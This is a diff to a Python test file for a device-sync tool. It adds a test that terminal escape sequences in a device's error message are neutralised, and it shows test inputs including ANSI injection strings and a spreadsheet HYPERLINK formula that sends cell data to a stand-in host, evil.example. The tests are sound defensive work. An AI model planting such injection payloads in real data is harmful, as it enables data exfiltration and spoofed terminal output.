@@ -206,6 +206,13 @@ def test_a_device_lying_about_its_id_cannot_hide_the_real_device_s_sessions(tmp_
     assert cursors(tmp_path / "host.db") == [(device_id, log_id, 6)]
 
 
+def test_a_device_s_error_message_reaches_the_terminal_harmlessly(tmp_path):
+    refusal = {"code": p.E_INTERNAL, "message": "\x1b[2J\r\nall fine, nothing to see"}
+    code, _, err, _ = sync_with(dict(welcome=welcome(0), refuse={p.SET_CLOCK: refusal}), tmp_path / "host.db")
+    assert code == 1
+    assert err == "facepace: the device refused SET_CLOCK: ?[2J??all fine, nothing to see\n"
+
+
 # --- What was stored prints safely --------------------------------------------------------
 
 NASTY_NAMES = ["\x1b[31mRED\x1b[0m\r\nfake line", '=HYPERLINK("http://evil.example/?d="&A1,"x")',
